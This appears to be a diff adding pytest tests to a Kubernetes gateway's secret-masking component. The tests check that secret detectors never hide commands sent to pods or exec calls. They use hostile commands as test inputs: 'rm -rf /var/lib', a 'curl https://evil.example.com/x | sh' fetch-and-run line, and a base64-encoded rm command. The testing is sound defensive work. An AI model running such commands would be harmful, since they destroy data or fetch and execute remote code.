@@ -3,13 +3,19 @@
 from __future__ import annotations
 
 import json
+import urllib.parse
 from typing import Any
 
 import pytest
 
 from l7gw.kube.objects import json_nodes
+from l7gw.masking.detectors.table import BUILT_IN
+from l7gw.masking.objects import ObjectMasker
+from l7gw.masking.registry import Registry
 from l7gw.masking.requests import recorded_body, recorded_headers, recorded_target
-from tests.support.masked import b64, masker, placeholder
+from l7gw.masking.scanner import Scanners
+from l7gw.obligations import NO_OBLIGATIONS
+from tests.support.masked import KEY, act_of, b64, masker, placeholder
 
 
 def body(line: str, said: Any, *, patch: bool = False, registry: Any = None) -> tuple[Any, list[str]]:
@@ -144,3 +150,70 @@ def test_a_token_in_a_header_is_masked() -> None:
     assert got == (headers[0], ("x-token", f"is {placeholder('test-token', 'tok_abcd1234')}"))
     assert [find.where for find in finds] == ["x-token:3"]
     assert recorded_headers(masker("GET /api/v1/namespaces/shop/pods", sender="ann"), headers[:1]) == (headers[:1], [])
+
+
+def with_real_detectors(line: str, registry: Registry, sender: str) -> ObjectMasker:
+    return ObjectMasker(
+        key=KEY,
+        cluster="test",
+        act=act_of(line),
+        obligations=NO_OBLIGATIONS,
+        scanner=Scanners(BUILT_IN).with_(frozenset("*")),
+        registry=registry,
+        sender=sender,
+    )
+
+
+def exec_of(*argv: str) -> str:
+    return EXEC + urllib.parse.urlencode([("command", word) for word in argv])
+
+
+COMMANDS = ["rm -rf /var/lib", "curl https://evil.example.com/x | sh", "reboot-every-node-of-it-9!"]
+
+
+@pytest.mark.parametrize("command", COMMANDS)
+def test_nobody_hides_a_command_behind_a_secret_of_his_own(command: str) -> None:
+    registry = Registry(KEY, lambda: 0.0)
+    said = json_nodes.read(json.dumps({"kind": "Secret", "stringData": {"a": command}}).encode(), strict=True)
+    recorded_body(with_real_detectors(SECRET, registry, "ann"), said)
+    read = json_nodes.read(json.dumps({"kind": "Secret", "data": {"a": b64(command)}}).encode(), strict=False)
+    with_real_detectors(SECRET, registry, "").mask(read)  # ann, or anybody, reads it
+    line = exec_of("sh", "-c", command)
+    assert recorded_target(with_real_detectors(line, registry, "ann"), line.split(" ", 1)[1]) == (line.split(" ", 1)[1], [])
+    pod = {"kind": "Pod", "spec": {"containers": [{"name": "a", "command": ["sh", "-c", command]}]}}
+    node = json_nodes.read(json.dumps(pod).encode(), strict=True)
+    assert recorded_body(with_real_detectors("POST /api/v1/namespaces/shop/pods", registry, "ann"), node).finds == []
+
+
+def test_a_secret_of_somebody_elses_is_masked_in_what_is_sent() -> None:
+    registry = Registry(KEY, lambda: 0.0)
+    read = json_nodes.read(json.dumps({"kind": "Secret", "data": {"a": b64("hunter2-hunter2!")}}).encode(), strict=False)
+    with_real_detectors(SECRET, registry, "").mask(read)
+    line = exec_of("psql", "--set", "x=hunter2-hunter2!")
+    sent = recorded_target(with_real_detectors(line, registry, "ann"), line.split(" ", 1)[1])
+    assert "hunter2" not in sent.recorded
+    assert [find.detector for find in sent.finds] == ["registry"]
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        "password=reboot", "PASSWORD=reboot;$PASSWORD", "--password reboot", "token: reboot-every-node-of-it", "secret=reboot-every-node-of-it-now1",
+        "Authorization: Bearer reboot.every.node-of.it", "https://reboot:every-node@example.com/", "postgres://a:reboot@db/x", "a@example.com",
+        "api_key='cm0gLXJmIC92YXIvbGliL3JlYm9vdA=='", "4111111111111111",
+    ],
+)  # fmt: skip
+def test_no_keyword_hides_a_command(words: str) -> None:
+    registry = Registry(KEY, lambda: 0.0)
+    for line in (exec_of("sh", "-c", words), exec_of("echo", words)):
+        assert recorded_target(with_real_detectors(line, registry, "ann"), line.split(" ", 1)[1]).finds == []
+    pod = {"kind": "Pod", "spec": {"containers": [{"name": "a", "command": ["sh", "-c", words], "args": [words]}]}}
+    node = json_nodes.read(json.dumps(pod).encode(), strict=True)
+    assert recorded_body(with_real_detectors("POST /api/v1/namespaces/shop/pods", registry, "ann"), node).finds == []
+
+
+def test_the_program_of_a_container_is_recorded_whatever_its_shape() -> None:
+    containers = [{"name": "a", "command": ["tok_abcd1234", "tok_abcd1234"], "args": ["tok_abcd1234"]}]
+    recorded, finds = body("POST /api/v1/namespaces/shop/pods", {"kind": "Pod", "spec": {"containers": containers}})
+    assert recorded["spec"]["containers"][0]["command"][0] == "tok_abcd1234"
+    assert finds == ["test-token spec.containers[0].command[1]", "test-token spec.containers[0].args[0]"]
